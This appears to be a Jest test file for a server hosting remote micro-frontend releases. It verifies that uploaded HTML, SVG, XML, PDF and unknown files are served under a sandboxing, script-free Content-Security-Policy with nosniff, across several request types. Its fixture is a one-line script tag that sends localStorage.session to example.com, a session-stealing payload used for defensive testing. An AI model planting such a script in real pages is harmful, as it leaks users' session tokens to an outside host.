import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { createHash } from 'node:crypto'
import { rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { brotliCompressSync } from 'node:zlib'
import { newDataDir, page, putRemote, putShell, remoteRelease } from '../testing/release-folders'
import { startServer } from '../testing/running-server'

const documents = ['x.html', 'x.xhtml', 'x.svg', 'x.xml', 'x.pdf', 'x.unknown', 'x']
const code = '<script>fetch("https://example.com/" + localStorage.session)</script>'

let dataDir: string
let site: Awaited<ReturnType<typeof startServer>>

beforeAll(async () => {
  dataDir = await newDataDir()
  await putShell(dataDir)
  const release = remoteRelease('mf-a', '1.0.0', { pages: [page('a.home', '/')] })
  const added = [
    ...documents.map((file) => [file, Buffer.from(code)] as const),
    ...documents.map((file) => [`${file}.br`, brotliCompressSync(code)] as const),
  ]
  for (const [file, content] of added) {
    const hash = createHash('sha384').update(content).digest('base64')
    release.files[file] = { integrity: `sha384-${hash}`, bytes: content.length }
  }
  const folder = await putRemote(dataDir, release)
  await Promise.all(added.map(([file, content]) => writeFile(join(folder, file), content)))
  site = await startServer(dataDir)
}, 60_000)
afterAll(async () => {
  await site.close()
  await rm(dataDir, { recursive: true })
})

const ask = (file: string, headers: Record<string, string> = {}) =>
  site.get(`/r/mf-a/1.0.0/${file}`, { headers: { 'accept-encoding': 'identity', ...headers } })
const policyOf = (answer: Response) => answer.headers.get('content-security-policy')

test.each(documents)(
  '%s is no page of this site: no scripts, an origin of its own',
  async (file) => {
    const plain = await ask(file)
    const etag = plain.headers.get('etag') ?? ''
    const answers = [
      plain,
      await ask(file, { 'accept-encoding': 'br' }),
      await ask(file, { range: 'bytes=0-40' }),
      await ask(file, { 'if-none-match': etag }),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 206, 304])
    for (const answer of answers) {
      expect(policyOf(answer)).toMatch(/^sandbox; default-src 'none';/)
      expect(policyOf(answer)).not.toContain('script')
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    }
  },
)

test('a script keeps no policy: a worker of a remote would run under it', async () => {
  expect(policyOf(await ask('page.js'))).toBeNull()
})
